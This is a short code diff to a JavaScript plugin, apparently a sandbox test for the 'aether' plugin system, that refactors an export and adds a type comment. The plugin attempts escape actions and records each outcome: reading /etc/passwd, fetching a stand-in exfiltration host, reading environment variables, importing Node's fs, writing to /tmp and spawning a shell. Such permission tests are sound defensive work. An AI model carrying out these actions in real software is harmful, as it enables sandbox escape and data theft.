@@ -31,16 +31,19 @@ async function tryTo(name, attempt) {
   }
 }
 
-/** @type {aether.Plugin<unknown, { allowed: string, outcomes: Outcome[] }>} */
-export default async function () {
+/** @satisfies {aether.Plugin<unknown, { allowed: string, outcomes: Outcome[] }>} */
+const grabber = async () => {
   const allowed = aether.fs.readText("./data/allowed.txt").trim();
   const outcomes = [
     await tryTo("read /etc/passwd", () => aether.fs.readText("/etc/passwd")),
     await tryTo("fetch an ungranted host", () => fetch("https://exfiltrate.example/?d=1")),
     await tryTo("read an environment variable", () => aether.env.get("HOME")),
+    // @ts-expect-error: no Node built-in exists for a plugin (that is the point of this attempt)
     await tryTo("import a Node built-in", () => import("fs")),
     await tryTo("write outside the workspace", () => aether.fs.writeText("/tmp/aether-was-here", "x")),
     await tryTo("spawn a shell", () => aether.process.run("/bin/sh", ["-c", "id"])),
   ];
   return { allowed, outcomes };
-}
+};
+
+export default grabber;
